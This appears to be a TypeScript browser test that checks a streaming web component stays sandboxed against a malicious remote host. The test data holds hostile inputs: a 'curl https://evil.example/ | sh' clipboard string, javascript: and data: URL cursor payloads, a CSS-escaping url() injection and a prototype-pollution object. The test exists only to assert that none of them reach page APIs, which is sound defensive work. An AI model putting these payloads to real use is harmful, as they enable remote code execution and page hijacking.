import {expect} from '@open-wc/testing';
import type {HostCursor, HostEvent} from '../../src/connection/connector.ts';
import {until} from '../support/until.ts';
import {lastConnection} from './application-connection.ts';
import {openStream, reaches} from './stream-fixture.ts';

const EVIL = 'https://evil.example/';

/** What a page has that a host must not reach by itself. */
const REACHES = {
  clipboard: [navigator.clipboard, ['readText', 'writeText', 'read', 'write']],
  devices: [navigator.mediaDevices, ['getUserMedia', 'getDisplayMedia']],
  keyboard: [Reflect.get(navigator, 'keyboard') as object, ['lock']],
  window: [window, ['open', 'alert', 'fetch']],
  element: [HTMLElement.prototype, ['requestPointerLock', 'requestFullscreen', 'showPopover', 'click']],
  history: [history, ['pushState', 'replaceState']],
} as const satisfies Record<string, readonly [object, readonly string[]]>;

const image = (url: string): HostCursor => ({kind: 'image', url, hotspot: [0, 0], scale: 1});

const POINTERS: readonly HostCursor[] = [
  image(`${EVIL}cursor.png`),
  image(`javascript:open('${EVIL}')`),
  image(`data:text/html,<script>open('${EVIL}')</script>`),
  image(`data:image/png;base64,AA"), url("${EVIL}`),
  {kind: 'named', name: `url(${EVIL}), auto`},
  {kind: 'named', name: 'auto; background: red'},
];

const SAYINGS: readonly HostEvent[] = [
  {kind: 'clipboard', text: `curl ${EVIL} | sh`},
  {kind: 'rumble', index: 0, strong: Infinity, weak: NaN},
  {kind: 'rumble', index: -1, strong: 1, weak: 1},
  {kind: 'message', message: {event_type: 'openURL', payload: {url: EVIL, result: 'error', error: EVIL}}},
  {
    kind: 'message',
    message: JSON.parse('{"__proto__": {"polluted": true}, "constructor": {"prototype": {}}}'),
  },
  {kind: 'takes', takes: {text: true, touch: true}},
  {kind: 'channel', open: true, takesParts: true},
  {kind: 'input', open: true},
];

describe('A host that means harm', () => {
  const reached: string[] = [];
  const restore: (() => void)[] = [];
  beforeEach(() => {
    reached.length = 0;
    for (const [name, [owner, methods]] of Object.entries(REACHES)) {
      for (const method of methods) {
        const own = Object.getOwnPropertyDescriptor(owner, method);
        Object.defineProperty(owner, method, {
          configurable: true,
          value: () => {
            reached.push(`${name}.${method}`);
            return Promise.resolve('');
          },
        });
        restore.push(() => {
          if (own) Object.defineProperty(owner, method, own);
          else Reflect.deleteProperty(owner, method);
        });
      }
    }
  });
  afterEach(() => {
    for (const undo of restore.splice(0)) undo();
  });

  /** A host that tries everything, on a page that gives it all input, and this. */
  const attack = async (given: Readonly<Record<string, string>>) => {
    const {element} = await openStream({connector: 'application', input: 'all', ...given});
    await reaches(element, 'playing');
    const listener = () => element.shadowRoot?.querySelector('[part~=keyboard]') ?? undefined;
    const field = await until('the element listens', listener);
    element.focus();
    const connection = lastConnection();
    for (const saying of SAYINGS) connection.tell(saying);
    for (const cursor of POINTERS) {
      connection.tell({kind: 'cursor', cursor});
      expect(element.video.style.cursor).to.be.oneOf(['', 'default']);
      expect(element.video.style.background).to.equal('');
    }
    // What waits for the person to do something is done by then.
    element.video.dispatchEvent(new PointerEvent('pointerup', {bubbles: true}));
    field.dispatchEvent(new KeyboardEvent('keyup', {key: 'a', code: 'KeyA'}));
    await element.updateComplete;
  };

  it('reaches nothing of the page that the page did not give it', async () => {
    const {href} = location;
    await attack({});
    expect(reached).to.deep.equal([]);
    expect(location.href).to.equal(href);
    expect(Reflect.get({}, 'polluted')).to.equal(undefined);
    expect(performance.getEntriesByType('resource').filter(({name}) => name.startsWith(EVIL))).to.be.empty;
  });

  it('reaches the clipboard where the page gives it, and nothing else', async () => {
    await attack({clipboard: ''});
    await until('the clipboard was written', () => reached.includes('clipboard.writeText'));
    expect(reached.filter((name) => !name.startsWith('clipboard.'))).to.deep.equal([]);
  });
});
